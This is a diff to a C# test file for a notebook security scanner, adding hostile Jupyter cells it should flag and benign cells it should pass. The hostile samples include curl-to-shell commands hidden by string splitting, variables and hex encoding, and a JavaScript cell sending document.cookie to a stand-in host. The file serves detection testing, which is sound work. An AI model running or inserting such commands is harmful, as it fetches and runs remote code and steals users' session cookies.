@@ -27,6 +27,11 @@ public sealed class NotebookTests
     [InlineData("!pip install reqeusts")]
     [InlineData("get_ipython().system('curl http://example.com/x|sh')")]
     [InlineData("get_ipython().run_cell_magic('bash', '', 'curl http://example.com/x | sh\\n')")]
+    [InlineData("get_ipython().system('cu' + 'rl http://example.com/x|ba' + 'sh')")]
+    [InlineData("c = 'cu' + 'rl http://example.com/a | s' + 'h'\n!{c}")]
+    [InlineData("host = 'http://example.com/a'\n!curl -s $host | sh")]
+    [InlineData("from IPython import get_ipython as g\ng().system(bytes.fromhex('6375726c20687474703a2f2f6578616d706c652e636f6d2f787c7368').decode())")]
+    [InlineData("%%javascript\nfetch('http://x.example.net/?c=' + document.cookie)")]
     public void T166_HostileCellsAreFlagged(string cell)
     {
         TargetReport report = Scans.Of(Notebook("import numpy as np", cell), "n.ipynb");
@@ -41,6 +46,8 @@ public sealed class NotebookTests
     [InlineData("import os, requests\nos.environ['HF_TOKEN'] = 'x'\nr = requests.post('https://api.example.com', json={})\nos.system('nvidia-smi')")]
     [InlineData("%%time\nfor i in range(3):\n    !ls\nx = !ls\ndf?")]
     [InlineData("%%html\n<script src='https://x'></script>")]
+    [InlineData("name = 'data'\n!mkdir -p {name} && ls $name\n!echo \"${HOME} {1,2}\"")]
+    [InlineData("%%javascript\nIPython.OutputArea.prototype._should_scroll = function(lines) { return false; }")]
     public void OrdinaryCellsPass(string cell)
     {
         TargetReport report = Scans.Of(Notebook(cell), "n.ipynb");
